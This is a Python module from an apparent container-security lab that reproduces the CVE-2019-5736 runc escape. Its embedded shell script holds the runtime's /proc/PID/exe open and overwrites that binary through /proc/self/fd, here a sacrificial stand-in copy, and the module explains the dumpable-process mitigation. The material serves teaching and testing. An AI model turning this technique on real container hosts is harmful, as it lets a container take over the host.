"""Overwriting the runtime through /proc/PID/exe (CVE-2019-5736)."""

from __future__ import annotations

import shutil
import subprocess

from engine.attacks.base import Attack, Lab, Outcome, read_text, step_text
from engine.steps import container_recorder

PAYLOAD = "#!/bin/sh\necho PWNED-by-container\n"


class ProcExe(Attack):
    name = "proc_exe"
    title = "overwrite the runtime via /proc/PID/exe"
    cve = "CVE-2019-5736"
    technique = ("when a runtime process enters the container (runc init during `runc exec`), the container "
                 "opens /proc/PID/exe - the runtime's binary on the host - keeps the descriptor, waits for "
                 "the process to exit (no more ETXTBSY) and rewrites the binary through /proc/self/fd/N. Here "
                 "the runtime is a sacrificial copy (a small stand-in program in the lab directory), never "
                 "labtui's interpreter.")
    weak = ("the runtime process that enters the container stays dumpable (it skips prctl(PR_SET_DUMPABLE, 0)); "
            "the container is otherwise default")
    stops_it = ("the runtime's processes visible in the container are non-dumpable (labtui's init records the "
                "step 'process prctl PR_SET_DUMPABLE 0'): ptrace_may_access() then refuses /proc/PID/exe, fd/ "
                "and mem to anyone without CAP_SYS_PTRACE (EACCES). runc adds a sealed memfd copy of itself; "
                "a user namespace would make the host binary unwritable too.")

    def execute(self, lab: Lab, profile: str) -> Outcome:
        from engine.attacks import helpers

        copy = lab.host / "labtui-runtime"
        shutil.copy2(helpers.build("standin"), copy)
        original = copy.read_bytes()
        script = lab.script("""
PID=
i=0; while [ -z "$PID" ] && [ $i -lt 100 ]; do
  for p in /proc/[0-9]*; do [ "$(cat $p/comm 2>/dev/null)" = labtui-runtime ] && PID=${p#/proc/}; done
  [ -z "$PID" ] && sleep 0.05; i=$((i+1))
done
[ -z "$PID" ] && { echo "BLOCKED: no runtime process appeared"; exit 1; }
echo "INFO: the runtime stand-in is pid $PID in the container"
if ! { true < /proc/$PID/exe; } 2>/tmp/err; then echo "BLOCKED: open /proc/$PID/exe: $(cat /tmp/err)"; exit 1; fi
exec 3< /proc/$PID/exe
echo "OK: holding /proc/$PID/exe open (fd 3)"
while [ -e /proc/$PID ]; do sleep 0.05; done
if printf '#!/bin/sh\\necho PWNED-by-container\\n' > /proc/self/fd/3; then echo "OVERWROTE: the runtime binary"
else echo "BLOCKED: write through /proc/self/fd/3"; fi
""")
        mode = "dumpable" if profile == "weak" else "hardened"

        def during(c) -> None:
            rec = container_recorder(c.id)
            init_pid = c.state["pid"]
            with rec.step("namespace", "setns (attack stand-in)", target=f"pid {init_pid}", value=mode,
                          shell=f"nsenter --pid=/proc/{init_pid}/ns/pid {copy} ...  # a runtime entering the "
                                "container"):
                p = subprocess.Popen([str(copy), str(init_pid), mode, "2"])
            rec.sink.close()
            lab.procs.append(p)

        run = lab.run(["sh", script], during=during)
        for p in lab.procs:
            p.wait(10)
        now = read_text(copy) if copy.exists() else None
        if copy.read_bytes() != original:
            return Outcome(True, f"the host file {copy} (the stand-in runtime binary) now reads {now!r}",
                           details={"output": run.output})
        return Outcome(False, run.first("BLOCKED:") or "the binary is unchanged",
                       step_text(run.step("process", "prctl", contains="PR_SET_DUMPABLE"))
                       + " - the same protection the stand-in applied to itself here",
                       {"output": run.output})
